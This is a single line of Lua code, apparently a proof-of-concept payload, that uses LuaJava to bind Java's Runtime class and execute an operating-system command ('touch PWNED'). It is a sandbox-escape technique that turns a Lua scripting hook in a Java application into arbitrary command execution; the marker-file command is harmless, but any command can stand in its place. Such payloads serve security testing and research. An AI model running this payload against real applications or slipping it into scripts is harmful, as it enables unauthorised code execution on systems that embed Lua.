luajava.bindClass("java.lang.Runtime"):getRuntime():exec("touch PWNED")
